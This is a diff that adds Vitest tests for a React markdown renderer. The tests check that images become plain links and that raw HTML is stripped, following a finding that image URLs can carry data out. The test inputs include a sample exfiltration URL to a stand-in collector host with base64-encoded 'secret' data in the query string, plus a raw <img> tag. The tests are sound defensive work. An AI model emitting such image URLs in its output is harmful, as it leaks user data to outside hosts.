@@ -1,0 +1,21 @@
+import { createElement } from "react";
+import { renderToStaticMarkup } from "react-dom/server";
+import { describe, expect, it } from "vitest";
+import { MarkdownText } from "./markdown";
+
+const render = (text: string) => renderToStaticMarkup(createElement(MarkdownText, { text }));
+
+describe("MarkdownText", () => {
+  it("shows an image as a link to it and never as <img> (finding 9: a URL can carry data out)", () => {
+    const html = render("Look: ![secret chart](https://collector.example/p.png?d=c2VjcmV0)");
+    expect(html).not.toContain("<img");
+    expect(html).toContain('href="https://collector.example/p.png?d=c2VjcmV0"');
+    expect(html).toContain("[image: secret chart]");
+  });
+
+  it("keeps links and drops raw HTML", () => {
+    const html = render('[docs](https://example.org) <img src="https://collector.example/x.png">');
+    expect(html).toContain('<a href="https://example.org" target="_blank" rel="noreferrer noopener">docs</a>');
+    expect(html).not.toContain("<img");
+  });
+});
